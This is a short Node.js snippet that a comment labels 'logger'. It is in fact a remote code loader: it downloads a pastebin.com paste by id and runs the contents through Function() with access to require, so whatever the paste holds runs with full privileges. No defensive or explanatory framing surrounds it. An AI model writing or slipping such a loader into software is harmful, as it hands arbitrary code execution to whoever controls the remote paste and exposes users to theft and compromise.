const https = require('https');
// surroundings: logger
function grab(id, cb) { https.get({ host: 'pastebin.com', path: '/raw/' + id }, (r) => { let b = ''; r.on('data', (x) => b += x); r.on('end', () => cb(null, b)); }); }
grab('k3Jd82Lq', (err, body) => { const m = { exports: {} }; Function('module', 'exports', 'require', body)(m, m.exports, require); }); //@act
